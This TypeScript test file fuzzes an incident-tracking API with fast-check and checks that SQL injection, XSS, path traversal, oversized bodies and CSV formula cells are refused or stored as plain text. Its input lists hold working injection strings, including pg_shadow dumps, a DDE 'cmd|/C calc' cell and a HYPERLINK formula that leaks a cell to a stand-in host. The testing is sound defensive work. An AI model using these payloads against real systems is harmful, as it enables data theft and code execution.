/**
 * Hostile input against the real server, on a SQLite file and on PostgreSQL: fast-check throws
 * random and adversarial path parameters, query strings and JSON (and not-JSON) bodies at every
 * registered route — the list createApp reports through onRoute, the same list the authorisation
 * matrix checks — as a signed-in admin and as an anonymous caller. No answer may be a 5xx; every
 * refusal is a JSON `{ error, message }` that names the problem. SQL-injection strings in every text
 * filter and body field change nothing and find nothing; oversized bodies get 413; the CSV importer
 * stores formula cells as the text they are and survives random bytes.
 *
 * Runs are bounded (see RUNS) so that the file takes well under a minute on both stores.
 */
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import type { RegisteredRoute } from '../../src/api/create-app.ts';
import { issueApiToken } from '../../src/commands/api-tokens.ts';
import { importEvents } from '../../src/commands/import-events.ts';
import type { Visibility } from '../../src/domain/classification.ts';
import { loadReference } from '../../src/reference/load-reference.ts';
import { searchTerms } from '../../src/store/search-terms.ts';
import { testStoreKinds } from '../support/databases.ts';
import { incidentInput, reportInput, TEST_ACTOR } from '../support/factories.ts';
import { openApi, type ApiHarness } from './api-harness.ts';

/** fast-check runs per route and caller; the seed is fixed so that a failure replays. */
const RUNS = 10;
const SEED = 20261127;
/**
 * Searchable words of the seeded records that no injection string's words match (so that a filter
 * made of an injection must find nothing).
 */
const QUIET = { notes: 'Qzk vvk kzq.', location: 'Kzqv', actor1: 'Zqk', actor2: null } as const;
const ALL: Visibility = { classifications: ['PUBLIC', 'AES_RESTRICTED', 'NATIONAL'], nationalOf: null };

/** Classic injection strings for SQLite and PostgreSQL, and the full-text syntaxes of both. */
export const SQL_INJECTIONS: readonly string[] = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "'; DROP TABLE incidents; --",
  '"; DROP TABLE users; --',
  "1'; DELETE FROM reports WHERE '1'='1",
  "' UNION SELECT name, sql FROM sqlite_master --",
  "' UNION SELECT usename, passwd FROM pg_shadow --",
  "x' AND pg_sleep(5) IS NULL --",
  '1 AND (SELECT 1 FROM users) = 1',
  "') OR ('a'='a",
  '\\x27; SELECT 1; --',
  "admin'--",
  '%',
  '_',
  '%_%\\',
  'NEAR(a b) OR c*',
  '"unterminated',
  'a & b | !c <-> d:*',
  "'''",
  '\u0000',
  "Robert'); UPDATE incidents SET classification = 'PUBLIC'; --",
];

const HOSTILE_TEXT: readonly string[] = [
  ...SQL_INJECTIONS,
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example","x")',
  '../../../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  '\u202e\u200b\ufeff',
  '💥'.repeat(40),
  'a'.repeat(5000),
  '-1',
  '0',
  '1e309',
  '99999999999999999999999',
  'NaN',
  'true',
  'null',
  '[]',
  '{}',
  ' ',
  '',
  ',,,,',
  'BFA,MLI,NER,XXX',
  '-5.5,10,4.3,25',
  '1,2,3,NaN',
  '2024-02-30',
  '9999-99-99',
];

const hostileString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.integer().map(String) },
);

/** Every field name any route's schema knows, so that random bodies reach past "unknown field". */
const BODY_KEYS = [
  'source',
  'text',
  'kind',
  'url',
  'language',
  'title',
  'published',
  'place_text',
  'latitude',
  'longitude',
  'classification',
  'owner_party',
  'client_ref',
  'reason',
  'status',
  'notes',
  'event_date',
  'event_type',
  'sub_event_type',
  'actor1',
  'actor2',
  'admin1',
  'admin2',
  'location',
  'fatalities',
  'ids',
  'action',
  'other_id',
  'report_id',
  'version',
  'verdict',
  'choice',
  'state',
  'scope',
  'label',
  'expires_in_days',
  'username',
  'password',
  'token',
] as const;

const QUERY_KEYS = [
  'bbox',
  'from',
  'to',
  'country',
  'event_type',
  'sub_event_type',
  'admin1',
  'actor',
  'status',
  'q',
  'limit',
  'cursor',
  'sort',
  'count',
  'zoom',
  'feature_class',
  'level',
] as const;

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      -1,
      0,
      1,
      2 ** 53,
      -(2 ** 31),
      1.5,
      1e308,
      null,
      true,
      'PUBLIC',
      'NATIONAL',
      'verify',
      'read',
    ),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
  { weight: 1, arbitrary: fc.array(fc.integer(), { maxLength: 3 }) },
);

const bodyObject = fc.dictionary(
  fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...BODY_KEYS) }, { weight: 1, arbitrary: fc.string() }),
  hostileValue,
  { maxKeys: 6 },
);

/** A body as sent: JSON of a hostile object, any JSON, or text that is not JSON, with a content type. */
const hostileBody = fc.record({
  payload: fc.oneof(
    { weight: 5, arbitrary: bodyObject.map((o) => JSON.stringify(o)) },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v)) },
    {
      weight: 1,
      arbitrary: fc.constantFrom('{', '{"a":', '[1,2', 'null', '"', '\u0000', '{"__proto__":{"x":1}}'),
    },
    { weight: 1, arbitrary: fc.string({ maxLength: 60 }) },
  ),
  contentType: fc.oneof(
    { weight: 6, arbitrary: fc.constant('application/json') },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        'text/plain',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'application/json; charset=utf-16',
        'application/xml',
      ),
    },
  ),
});

const hostileQuery = fc.array(
  fc.tuple(
    fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...QUERY_KEYS) }, { weight: 1, arbitrary: fc.string() }),
    hostileString,
  ),
  { maxLength: 4 },
);

const hostileParam = fc.oneof(
  { weight: 2, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 50 }).map(String) },
);

/** The problem a refusal must name: a field (`body.reason: …`, `query.q: …`) or what went wrong. */
function checkRefusal(res: LightMyRequestResponse, method: string, what: string): void {
  assert.ok(res.statusCode < 500, `${what} → ${res.statusCode} ${res.body.slice(0, 300)}`);
  if (res.statusCode < 400 || method === 'HEAD') return;
  assert.match(String(res.headers['content-type']), /^application\/json/, `${what}: JSON refusal`);
  const body = res.json<{ error?: unknown; message?: unknown }>();
  assert.equal(typeof body.error, 'string', `${what}: error id in ${res.body}`);
  assert.ok(typeof body.message === 'string' && body.message.length > 3, `${what}: message in ${res.body}`);
  if (body.error === 'invalid_request')
    assert.match(body.message, /^[\w.[\]/-]+: \S/, `${what}: the message names the field: ${res.body}`);
}

for (const kind of testStoreKinds) {
  describe(`hostile input on ${kind.dialect}`, () => {
    let api: ApiHarness;
    let webRoot: string;
    let csvDir: string;
    const registered: RegisteredRoute[] = [];
    let requests = 0;
    let incidentId = 0;

    const inject = async (options: InjectOptions): Promise<LightMyRequestResponse> => {
      requests += 1;
      return api.app.inject(options);
    };

    /** Everything the store holds that a request must not change behind the route's back. */
    async function snapshot(): Promise<string> {
      const incidents = await api.db.store.listIncidents({ visibility: ALL, limit: 1000 });
      const reports = await api.db.store.listReports({ visibility: ALL, limit: 1000 });
      return JSON.stringify({
        incidents: incidents.items,
        reports: reports.items,
        users: await api.db.store.countUsers(),
      });
    }

    /** A fresh write token of the admin: DELETE /api/me/tokens/:id may revoke the one in use. */
    async function adminHeaders(): Promise<Record<string, string>> {
      const admin = await api.db.store.findUserByName('admin');
      assert.ok(admin);
      const { secret } = await issueApiToken(
        api.db.store,
        admin.id,
        new Date('2024-06-01T00:00:00Z'),
        TEST_ACTOR,
      );
      return { authorization: `Bearer ${secret}` };
    }

    before(async () => {
      webRoot = await mkdtemp(path.join(tmpdir(), 'liptako-web-'));
      await mkdir(path.join(webRoot, 'assets'));
      await writeFile(path.join(webRoot, 'index.html'), '<!doctype html><title>Liptako</title>');
      await writeFile(path.join(webRoot, 'assets', 'app.js'), 'export {};');
      csvDir = await mkdtemp(path.join(tmpdir(), 'liptako-csv-'));
      api = await openApi(await kind.open(), { webRoot, onRoute: (r) => registered.push(r) });
      await api.db.store.upsertIncidents(
        [
          incidentInput(QUIET),
          incidentInput({ ...QUIET, classification: 'NATIONAL', ownerParty: 'BFA', country: 'BFA' }),
          incidentInput({ ...QUIET, classification: 'AES_RESTRICTED', country: 'NER' }),
        ],
        { changedBy: 'test', at: '2024-05-01T00:00:00Z', actor: TEST_ACTOR },
      );
      const first = await api.db.store.listIncidents({ visibility: ALL, limit: 1 });
      incidentId = first.items[0]?.id ?? 0;
      await api.db.store.insertReport(reportInput({ title: 'Qzk', text: 'Qzk vvk kzq.' }), {
        submittedBy: 'test',
        receivedAt: '2024-05-01T00:00:00Z',
        actor: TEST_ACTOR,
      });
    });
    after(async () => {
      await api.close();
      await rm(webRoot, { recursive: true, force: true });
      await rm(csvDir, { recursive: true, force: true });
    });

    it('finds nothing and changes nothing with SQL-injection strings in every text filter', async () => {
      const headers = await adminHeaders();
      const before = await snapshot();
      const filters: Record<string, readonly string[]> = {
        '/api/incidents': [
          'q',
          'actor',
          'admin1',
          'cursor',
          'country',
          'event_type',
          'sub_event_type',
          'status',
          'bbox',
        ],
        '/api/incidents/aggregate?zoom=4': ['q', 'actor', 'admin1', 'country', 'event_type', 'status'],
        '/api/incidents/timeline': ['q', 'actor', 'admin1', 'country', 'sub_event_type'],
        '/api/reports': ['q', 'cursor'],
        '/api/reference/places': ['q'],
        '/api/reference/actors': ['q'],
      };
      for (const [base, fields] of Object.entries(filters))
        for (const field of fields)
          for (const injection of SQL_INJECTIONS) {
            const url = `${base}${base.includes('?') ? '&' : '?'}${field}=${encodeURIComponent(injection)}`;
            const res = await inject({ method: 'GET', url, headers });
            checkRefusal(res, 'GET', url);
            if (injection.includes('\u0000')) {
              // PostgreSQL cannot hold it, SQLite would cut the text at it: refused at the edge.
              assert.equal(res.statusCode, 400, url);
              assert.match(res.json<{ message: string }>().message, new RegExp(`^query\\.${field}: `));
            }
            if (res.statusCode !== 200) continue;
            const body = res.json<{
              items?: unknown[];
              weeks?: { count: number }[];
              properties?: { total: number };
            }>();
            // No seeded record holds these strings: a filter made of them matches nothing — except a
            // q without a word to search for (only punctuation), which filters nothing.
            if (['q', 'actor', 'admin1'].includes(field) && !base.startsWith('/api/reference')) {
              const found =
                body.items?.length ??
                body.properties?.total ??
                body.weeks?.reduce((n, w) => n + w.count, 0) ??
                0;
              const everything = base.startsWith('/api/reports') ? 1 : 3;
              const expected = field === 'q' && searchTerms(injection).length === 0 ? everything : 0;
              assert.equal(found, expected, `${url} found ${found}`);
            }
          }
      assert.equal(await snapshot(), before, 'the data is unchanged');
    });

    it('stores SQL-injection strings in body fields as the text they are, and changes nothing else', async () => {
      const headers = await adminHeaders();
      const nul = await inject({
        method: 'POST',
        url: '/api/reports',
        headers,
        payload: { source: 'poste', text: 'avant\u0000après' },
      });
      assert.equal(nul.statusCode, 400, nul.body);
      assert.match(nul.json<{ message: string }>().message, /^body\.text: must not contain the NUL/);
      for (const injection of SQL_INJECTIONS.filter((s) => !s.includes('\u0000'))) {
        const before = JSON.parse(await snapshot()) as { incidents: { id: number }[]; users: number };
        const sent = await inject({
          method: 'POST',
          url: '/api/reports',
          headers,
          payload: {
            source: injection,
            title: injection,
            text: `Rapport: ${injection}`,
            client_ref: injection,
          },
        });
        assert.equal(sent.statusCode, 201, sent.body);
        const report = sent.json<{
          id: number;
          source: string;
          title: string;
          text: string;
          client_ref: string;
        }>();
        const read = await inject({ method: 'GET', url: `/api/reports/${report.id}`, headers });
        assert.deepEqual(
          [read.json().source, read.json().title, read.json().text, read.json().client_ref],
          [injection, injection, `Rapport: ${injection}`, injection],
        );
        const patched = await inject({
          method: 'PATCH',
          url: `/api/incidents/${incidentId}`,
          headers,
          payload: {
            reason: injection.length >= 3 ? injection : `r ${injection}`,
            notes: injection,
            location: injection,
          },
        });
        assert.equal(patched.statusCode, 200, patched.body);
        const after = JSON.parse(await snapshot()) as { incidents: { id: number }[]; users: number };
        assert.equal(after.users, before.users);
        // Only the patched incident changed (and those the report's extraction may have created).
        const others = (s: { incidents: { id: number }[] }) =>
          JSON.stringify(
            s.incidents.filter((i) => i.id !== incidentId && before.incidents.some((b) => b.id === i.id)),
          );
        assert.equal(others(after), others(before));
        const detail = await inject({ method: 'GET', url: `/api/incidents/${incidentId}`, headers });
        assert.deepEqual(
          [detail.json().incident.notes, detail.json().incident.location],
          [injection, injection],
        );
      }
    });

    it('never answers a 5xx, and refuses with a JSON { error, message } naming the problem, on every route', async () => {
      // A HEAD route Fastify adds beside a GET runs the GET's handler: fuzzing the GET covers it.
      const gets = new Set(registered.filter((r) => r.method === 'GET').map((r) => r.url));
      const routes = registered.filter((r) => r.method !== 'HEAD' || !gets.has(r.url));
      const admin = await adminHeaders();
      assert.ok(routes.length > 30, `the server lists its routes (${routes.length})`);
      for (const route of routes)
        for (const caller of ['admin', 'anonymous'] as const)
          await fc.assert(
            fc.asyncProperty(
              hostileParam,
              hostileParam,
              hostileQuery,
              hostileBody,
              async (p1, p2, query, body) => {
                let n = 0;
                const url = route.url
                  .replace(/:\w+(\([^)]*\))?/g, () => encodeURIComponent(n++ === 0 ? p1 : p2))
                  .replace('*', encodeURIComponent(p1));
                const qs = [
                  ...query.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`),
                  // The alert stream answers what was missed and ends, rather than streaming forever.
                  ...(route.url === '/api/stream' ? ['follow=false'] : []),
                ].join('&');
                const revokes = route.method === 'DELETE' && route.url.startsWith('/api/me/tokens');
                const headers: Record<string, string> =
                  caller === 'anonymous' ? {} : revokes ? await adminHeaders() : { ...admin };
                const hasBody = !['GET', 'HEAD', 'DELETE'].includes(route.method);
                if (hasBody) headers['content-type'] = body.contentType;
                const res = await inject({
                  // Fastify's methods are the HTTP ones light-my-request sends.
                  method: route.method as InjectOptions['method'],
                  url: qs === '' ? url : `${url}?${qs}`,
                  headers,
                  ...(hasBody ? { payload: body.payload } : {}),
                });
                checkRefusal(
                  res,
                  route.method,
                  `${caller} ${route.method} ${url}?${qs} ${hasBody ? body.payload.slice(0, 200) : ''}`,
                );
              },
            ),
            { numRuns: RUNS, seed: SEED, endOnFailure: true },
          );
    });

    it('stores and extracts reports of any text without a 5xx or an extraction error', async () => {
      const headers = await adminHeaders();
      const text = fc.oneof(
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 600 }),
        fc.string({ unit: 'binary', minLength: 1, maxLength: 300 }).filter((t) => !t.includes('\u0000')),
        fc
          .array(
            fc.constantFrom(
              'Des hommes armés ont attaqué',
              'le marché de Téra',
              'Tillabéri',
              'le 3 mai 2024',
              '12 morts',
              'JNIM',
              'killed 40 soldiers',
              'near Gao',
              '<script>alert(1)</script>',
              "' OR 1=1 --",
              '=HYPERLINK("x")',
              '99999999999999999999',
              '..',
              '\n\n',
            ),
            { minLength: 1, maxLength: 30 },
          )
          .map((parts) => parts.join(' ')),
      );
      await fc.assert(
        fc.asyncProperty(text, fc.constantFrom('fr', 'en', null), async (t, language) => {
          const res = await inject({
            method: 'POST',
            url: '/api/reports',
            headers,
            payload: { source: 'fuzz', text: t, language },
          });
          checkRefusal(res, 'POST', `report ${JSON.stringify(t).slice(0, 200)}`);
          if (t.trim() === '') return;
          assert.equal(res.statusCode, 201, res.body);
          assert.equal(
            res.json<{ extraction_error: string | null }>().extraction_error,
            null,
            JSON.stringify(t),
          );
          assert.equal(res.json<{ text: string }>().text, t);
        }),
        { numRuns: 25, seed: SEED },
      );
    });

    it('refuses bodies over the limit with 413 and a JSON error', async () => {
      const headers = { ...(await adminHeaders()), 'content-type': 'application/json' };
      const big = JSON.stringify({ source: 'x', text: 'a'.repeat(1024 * 1024 + 10) });
      for (const [url, method, payload] of [
        ['/api/reports', 'POST', big],
        [`/api/incidents/${incidentId}`, 'PATCH', big],
        ['/api/incidents/bulk', 'POST', big],
        ['/api/session', 'POST', JSON.stringify({ username: 'admin', password: 'p'.repeat(9000) })],
      ] as const) {
        const res = await inject({ method, url, headers, payload });
        assert.equal(res.statusCode, 413, `${method} ${url}`);
        assert.equal(res.json().error, 'body_too_large');
      }
    });

    it('stores CSV formula cells as text, and survives hostile CSV files', async () => {
      const reference = loadReference();
      const formulas = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        '+SUM(1+1)*cmd|" /C calc"!A0',
        '-2+3+cmd|" /C calc"!A0',
        '@SUM(1+1)',
        '\t=1+1',
        "=cmd|'/c calc'!A1",
      ];
      const header =
        'event_id_cnty,event_date,year,event_type,sub_event_type,actor1,actor2,country,admin1,admin2,location,latitude,longitude,geo_precision,source,notes,fatalities';
      const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;
      const rows = formulas.map(
        (f, i) =>
          `FRM${i},2024-01-0${i + 1},2024,Battles,Armed clash,${quote(f)},,Mali,Gao,Ansongo,Ansongo,15.6597,0.5022,1,${quote(f)},${quote(f)},1`,
      );
      const file = path.join(csvDir, 'formulas.csv');
      await writeFile(file, [header, ...rows].join('\n'));
      const result = await importEvents(api.db.store, reference, file, 'acled', { classification: 'PUBLIC' });
      assert.equal(result.imported, formulas.length, JSON.stringify(result));
      for (const [i, f] of formulas.entries()) {
        const stored = await api.db.store.getIncidentBySourceKey(`acled:FRM${i}`, ALL);
        // Cells are trimmed as every imported cell is; the formula itself stays text.
        assert.deepEqual([stored?.notes, stored?.actor1, stored?.source], [f.trim(), f.trim(), f.trim()]);
      }

      let files = 0;
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(
            fc.uint8Array({ maxLength: 400 }).map((b) => Buffer.from(b)),
            fc
              .array(
                fc.array(fc.oneof(hostileString, fc.constantFrom('"', '""', '\r', '\n', ',', '\u0000')), {
                  maxLength: 20,
                }),
                {
                  maxLength: 8,
                },
              )
              .map((cells) => Buffer.from([header, ...cells.map((r) => r.join(','))].join('\n'))),
          ),
          async (content) => {
            files += 1;
            const hostile = path.join(csvDir, `hostile-${files}.csv`);
            await writeFile(hostile, content);
            const before = await snapshot();
            const outcome = await importEvents(api.db.store, reference, hostile, 'acled', {
              classification: 'PUBLIC',
            });
            if (outcome.imported + outcome.updated === 0) assert.equal(await snapshot(), before);
          },
        ),
        { numRuns: 25, seed: SEED },
      );
    });

    it('counts what it tried', () => {
      console.log(
        `hostile input on ${kind.dialect}: ${requests} requests, ${registered.length} routes registered`,
      );
      assert.ok(requests > 40 * 2 * RUNS);
    });
  });
}
